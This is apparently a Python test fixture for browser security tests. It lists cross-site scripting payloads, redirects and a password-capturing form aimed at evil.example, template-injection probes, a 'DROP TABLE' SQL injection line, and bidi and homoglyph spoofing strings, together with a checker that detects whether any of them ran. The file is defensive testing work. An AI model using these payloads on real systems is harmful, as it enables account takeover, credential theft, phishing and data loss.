"""What a stranger may write into any field of a badge, an offer or a request (A24, A29, A30, A52).

Whatever of it ran would set `document.title` or `window.hit`; the phone and other pages try the same texts.
"""

from typing import Any

SCRIPT = (
    "<script>document.title='owned'</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    '"><img src=x onerror="window.hit=1">',
    "'><svg onload=window.hit=1>",
    '"><svg onload="document.title=\'owned\'">',
    "<svg><script href=data:,window.hit=1 />",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "</textarea><svg onload=window.hit=1>",
    "</title><img src=x onerror=window.hit=1>",
    "</template><math><mtext><style><img src onerror=\"document.title='owned'\">",
    "<math><a xlink:href=javascript:window.hit=1>x</a></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "<listing>&lt;img src=x onerror=window.hit=1&gt;</listing>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
    "<form id=x></form><button form=x formaction=javascript:window.hit=1>klik</button>",
    "</dd></dl><iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
    "<object data=javascript:window.hit=1>",
    "<embed src=data:text/html,<script>parent.hit=1</script>>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<marquee onstart=window.hit=1>",
    "<a href='javascript:window.hit=1'>klik</a>",
    "<a href='//evil.example'>klik</a>",
    "javascript:window.hit=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=passphrase></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<!--",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "\\u003cimg src=x onerror=window.hit=1\\u003e",
    "{{ 7*191 }}{% raw %}",
    "${7*191}#{7*191}<%= 7*191 %>",
    "[klik](javascript:window.hit=1) ![x](https://evil.example/x.png)",
    "'; DROP TABLE skills; --",
)
POSING = (
    "\u202egnp.\u202d\u2066\u200b\u00ad",
    "Belastingdienst \u202egro.live",
    "\u0430pple.example (erkend door de registerhouder)",
    "W" * 300,
    "woord " * 50,
    "\U000e0041\U000e0042\ufe0f\u2028\u2029",
)
TEXTS = (*SCRIPT, *POSING)
TURNING = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
"""Marks that turn the text after them: a page shows none of them."""

_RAN = """() => {
  const odd = "script, iframe, object, embed, base, style, link, meta, math, form[action^=http], [formaction^=javascript],"
    + "a[href^='javascript'], a[href^='//'], a[href*='evil.example'], img[src^=http]";
  const found = [...document.body.querySelectorAll(odd)].map((each) => each.outerHTML.slice(0, 120));
  for (const each of document.body.querySelectorAll("*"))
    for (const { name } of each.attributes) if (name.startsWith("on")) found.push(each.outerHTML.slice(0, 120));
  if (document.title === "owned" || window.hit) found.push("it ran");
  if (document.body.textContent.includes("1337")) found.push("it was worked out");
  return found;
}"""


def harm(page: Any) -> list[str]:
    """What a stranger's text did on the page that stands: elements that no page of ours has, and what ran."""
    found: list[str] = page.evaluate(_RAN)
    turned = TURNING & set(page.locator("body").inner_text())
    return [*found, *(f"turns the text: {ord(each):x}" for each in turned)]
